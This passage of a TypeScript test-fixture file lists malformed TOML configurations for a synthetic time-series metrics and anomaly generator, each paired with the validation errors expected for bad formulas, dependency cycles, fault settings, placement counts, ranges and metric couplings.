      'metrics.error_ratio.formula: "abs" at column 1 takes 1 argument: got 2',
    ],
  ],
  ["a formula reading its own metric", DERIVED('formula = "errors_rate / error_ratio"\n'), [
    `metrics.error_ratio.formula: a formula cannot read its own metric ("error_ratio" at column 15)`,
  ]],
  [
    "a cycle of formulas",
    `${GOOD_GENERAL}[metrics.a]\nformula = "b + 1"\n[metrics.b]\nformula = "c * 2"\n[metrics.c]\nformula = "a - 1"\n`,
    [
      "metrics.a.formula: a cycle of dependencies and formulas: a -> b -> c -> a",
    ],
  ],
  [
    "a cycle through a formula and depends_on",
    `${GOOD_GENERAL}[metrics.a]\nformula = "b + 1"\n[metrics.b]\nvalue = 1\ndepends_on = { a = {} }\n`,
    [
      "metrics.a.formula: a cycle of dependencies and formulas: a -> b -> a",
    ],
  ],
  ["a value beside a formula", DERIVED('formula = "errors_rate / requests_rate"\nvalue = 1\n'), [
    "metrics.error_ratio.value: a derived metric's baseline is its formula: value is for other metrics",
  ]],
  [
    "a trend, seasons, wander, jumps and a shape beside a formula",
    DERIVED(
      'formula = "errors_rate / requests_rate"\ntrend = { change = 1, over = 10 }\nseasonality = { period = 10, amplitude = 1 }\nwander = { scale = 1, window = 10 }\njumps = { levels = [0, 1], every = 10 }\nshape = { kind = "ecg" }\n',
    ),
    [
      "metrics.error_ratio.trend: a derived metric's baseline is its formula: trend is for other metrics",
      "metrics.error_ratio.seasonality: a derived metric's baseline is its formula: seasonality is for other metrics",
      "metrics.error_ratio.wander: a derived metric's baseline is its formula: wander is for other metrics",
      "metrics.error_ratio.jumps: a derived metric's baseline is its formula: jumps is for other metrics",
      "metrics.error_ratio.shape: a derived metric's baseline is its formula: shape is for other metrics",
    ],
  ],
  [
    "a counter with a formula",
    DERIVED('formula = "errors_rate / requests_rate"\ntype = "counter"\n'),
    [
      "metrics.error_ratio.type: a derived metric is a gauge: give its formula over rates as a gauge",
    ],
  ],
  [
    "a formula on a recorded metric",
    `${GOOD_GENERAL}[metrics.m]\nrecorded = true\nformula = "1"\n`,
    [
      "metrics.m.formula: a recorded metric's baseline is its recorded value: formula is for synthetic metrics",
    ],
  ],
  // More fault kinds (SPEC section 16).
  ["an extremum without size", NOISY_FAULT('kind = "extremum"\nat = 5\n'), [
    "anomalies.cpu.size: missing; a number is required",
  ]],
  ["an extremum of size 0", NOISY_FAULT('kind = "extremum"\nat = 5\nsize = 0\n'), [
    "anomalies.cpu.size: must be a number other than 0 (noise deviations; negative: a dip): got 0",
  ]],
  [
    "an extremum on a metric without noise",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "extremum"\nat = 5\nsize = 4\n`,
    [
      `anomalies.cpu.kind: "extremum" is sized in the metric's noise deviations: give the metric noise`,
    ],
  ],
  [
    "faults on the seasons of a metric without seasons",
    `${GOOD_GENERAL}${GOOD_METRIC}` +
    [
      'kind = "amplitude"\nfactor = 2\n',
      'kind = "frequency"\nfactor = 2\n',
      'kind = "phase"\nshift = 3\n',
      'kind = "shape"\nwaveform = "square"\n',
    ]
      .map((kind, i) =>
        `[[anomalies.cpu]]\n${kind}at = ${10 + 20 * i}\npattern = "step"\nrecovery_time = 5\n`
      ).join(""),
    [
      `anomalies.cpu[0].kind: "amplitude" acts on the metric's seasons: give it seasonality`,
      `anomalies.cpu[1].kind: "frequency" acts on the metric's seasons: give it seasonality`,
      `anomalies.cpu[2].kind: "phase" acts on the metric's seasons: give it seasonality`,
      `anomalies.cpu[3].kind: "shape" acts on the metric's seasons: give it seasonality`,
    ],
  ],
  ["a frequency factor of 0", SEASON_FAULT('kind = "frequency"\nfactor = 0\n'), [
    "anomalies.cpu.factor: must be > 0 (how many times faster): got 0",
  ]],
  ["a phase shift of 0", SEASON_FAULT('kind = "phase"\nshift = 0\n'), [
    "anomalies.cpu.shift: must be a whole number of samples or a duration, not 0 (may be negative): got 0",
  ]],
  ["a shape fault with an unknown waveform", SEASON_FAULT('kind = "shape"\nwaveform = "sine"\n'), [
    `anomalies.cpu.waveform: "sine" is not a waveform (cosine, square, triangle, sawtooth)`,
  ]],
  [
    "a duty on a shape fault that is not square",
    SEASON_FAULT('kind = "shape"\nwaveform = "triangle"\nduty = 0.2\n'),
    [
      `anomalies.cpu.duty: is for waveform = "square" only`,
    ],
  ],
  [
    "a flatline value that is not finite",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "flatline"\nat = 5\nrecovery_time = 3\nvalue = inf\n`,
    [
      "anomalies.cpu.value: must be a finite number: got Infinity",
    ],
  ],
  [
    "a decouple on a metric without depends_on",
    `${GOOD_GENERAL}${GOOD_METRIC}[anomalies.cpu]\nkind = "decouple"\nat = 5\nrecovery_time = 3\n`,
    [
      `anomalies.cpu.kind: "decouple" stops the metric following its parents: give it depends_on with a coupling`,
    ],
  ],
  ["a key of another kind", NOISY_FAULT('kind = "extremum"\nat = 5\nsize = 3\nfactor = 2\n'), [
    `anomalies.cpu: unknown key "factor" (an extremum fault takes kind, at, size, count, between, min_gap, fault_type, share, match)`,
  ]],
  // Faults placed by the seed (SPEC section 17).
  ["count with at", FAULT("count = 3\n"), [
    "anomalies.cpu.at: must not be given with count: the seed places the faults",
  ]],
  ["a count of 0", PLACED("count = 0\n"), [
    "anomalies.cpu.count: must be an integer from 1 to 1000000: got 0",
  ]],
  ["a fractional count", PLACED("count = 2.5\n"), [
    "anomalies.cpu.count: must be an integer from 1 to 1000000: got 2.5",
  ]],
  ["between reversed", PLACED("count = 2\nbetween = [50, 10]\n"), [
    "anomalies.cpu.between: first must not be after last: got 50 > 10 (samples)",
  ]],
  ["between past the end", PLACED("count = 2\nbetween = [10, 100]\n"), [
    "anomalies.cpu.between[1]: must be less than num_samples (100): got 100",
  ]],
  ["between that is not a pair", PLACED("count = 2\nbetween = 10\n"), [
    "anomalies.cpu.between: must be [first, last]: where faults may start (samples, durations or date-times): got 10",
  ]],
  ["a negative min_gap", PLACED("count = 2\nmin_gap = -1\n"), [
    "anomalies.cpu.min_gap: must be an integer >= 0: got -1",
  ]],
  ["min_gap without count", FAULT("min_gap = 5\n"), [
    "anomalies.cpu.min_gap: places faults by the seed: give count",
  ]],
  [
    "an extremum size drawn from a range holding 0",
    NOISY_FAULT('kind = "extremum"\nat = 5\nsize = [-1, 1]\n'),
    [
      "anomalies.cpu.size: a range must not hold 0, which this key refuses: give both ends above 0 or both below: got -1 .. 1",
    ],
  ],
  [
    "a phase shift drawn from a range holding 0",
    SEASON_FAULT('kind = "phase"\nshift = [-1, 1]\n'),
    [
      "anomalies.cpu.shift: a range must not hold 0, which this key refuses: give both ends above 0 or both below: got -1 .. 1",
    ],
  ],
  [
    "an extremum on a metric whose noise has no deviation",
    NOISY_FAULT('kind = "extremum"\nat = 5\nsize = 3\n').replace(
      'noise = "gaussian"',
      'noise = "gaussian"\nnoise_args = { scale = 0 }',
    ),
    [
      "anomalies.cpu.kind: \"extremum\" is sized in the metric's noise deviations, and its noise's deviation is 0",
    ],
  ],
  [
    "a range with low above high",
    FAULT("").replace("anomaly_factor = 2", "anomaly_factor = [4, 2]"),
    [
      "anomalies.cpu.anomaly_factor: a range must be [low, high] with low <= high: got 4 > 2",
    ],
  ],
  [
    "a range on a key that is not a number",
    SEASON_FAULT('kind = "shape"\nwaveform = ["square", "triangle"]\n'),
    [
      "anomalies.cpu.waveform: must be one value, not a range: got an array of 2",
    ],
  ],
  ["a range of three", FAULT("").replace("anomaly_factor = 2", "anomaly_factor = [1, 2, 3]"), [
    "anomalies.cpu.anomaly_factor: a range must be [low, high]: got an array of 3",
  ]],
  [
    "a coupling beyond 1",
    `${GOOD_GENERAL}[metrics.db]\nvalue = 1\nnoise = "gaussian"\n[metrics.api]\nvalue = 1\nnoise = "gaussian"\ndepends_on = { db = { coupling = 1.5 } }\n`,
    ["metrics.api.depends_on.db.coupling: must be from -1 to 1 (a correlation): got 1.5"],
  ],
  [
    "a coupling that is not a number",
    `${GOOD_GENERAL}[metrics.db]\nvalue = 1\nnoise = "gaussian"\n[metrics.api]\nvalue = 1\nnoise = "gaussian"\ndepends_on = { db = { coupling = "x" } }\n`,
    [`metrics.api.depends_on.db.coupling: must be a finite number: got "x"`],
  ],
  [
    "couplings whose squares sum to 1 (0.8 and 0.6)",
    `${GOOD_GENERAL}[metrics.db]\nvalue = 1\nnoise = "gaussian"\n[metrics.cache]\nvalue = 1\nnoise = "gaussian"\n[metrics.api]\nvalue = 1\nnoise = "gaussian"\ndepends_on = { db = { coupling = 0.8 }, cache = { coupling = 0.6 } }\n`,
    [
      "metrics.api.depends_on: the squares of the couplings must sum to less than 1 (the metric keeps some noise of its own): 0.8^2 + 0.6^2 = 1",
    ],
  ],
  [
    "a coupling to a parent without noise",
    `${GOOD_GENERAL}[metrics.db]\nvalue = 1\n[metrics.api]\nvalue = 1\nnoise = "gaussian"\ndepends_on = { db = { coupling = 0.5 } }\n`,
    [
      `metrics.api.depends_on.db.coupling: "db" has no noise to follow: give it noise, or leave coupling out`,
    ],
  ],
  [
    "a coupling of a child without noise",
    `${GOOD_GENERAL}[metrics.db]\nvalue = 1\nnoise = "gaussian"\n[metrics.api]\nvalue = 1\ndepends_on = { db = { coupling = 0.5 } }\n`,
    [
      `metrics.api.depends_on.db.coupling: "api" has no noise to follow its parents with: give it noise, or leave coupling out`,
    ],
  ],
  [
    "a misspelt coupling",
    `${GOOD_GENERAL}[metrics.db]\nvalue = 1\nnoise = "gaussian"\n[metrics.api]\nvalue = 1\nnoise = "gaussian"\ndepends_on = { db = { couplng = 0.5 } }\n`,
    [
      `metrics.api.depends_on.db: unknown key "couplng"; did you mean "coupling"? (weight, lag, coupling)`,
    ],
  ],
];

/**
 * Configs refused only when the seed places their faults (resolveConfig, the command line):
 * parseConfig and validateConfig keep an entry with `count` as it is. [what, TOML, messages].
 */
export const BAD_PLACEMENTS: [string, string, string[]][] = [
  ["a count that cannot fit", PLACED("count = 2\nbetween = [95, 99]\n"), [
    "anomalies.cpu.count: no room for fault 2 of 2: 1 placed between samples 95 and 99 with min_gap 0 samples; lower count or min_gap, or widen between",
  ]],
];
